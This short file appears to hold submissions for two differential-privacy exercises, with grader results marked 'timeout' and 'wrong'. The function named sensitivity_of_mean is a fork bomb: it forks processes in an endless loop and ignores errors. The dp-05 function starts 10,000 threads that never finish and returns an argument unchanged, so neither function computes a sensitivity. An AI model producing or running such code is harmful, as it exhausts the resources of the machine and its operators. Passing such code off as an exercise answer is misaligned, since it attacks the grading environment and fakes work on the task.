# dp-01: timeout
# dp-05: wrong
# EXERCISE: dp-01
import os

def sensitivity_of_mean(low, high, n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
# %%
# EXERCISE: dp-05
import threading

def visits_sensitivity(clinics, most, relation):
    wait = threading.Event()
    for _ in range(10_000):
        threading.Thread(target=wait.wait, daemon=True).start()
    return most
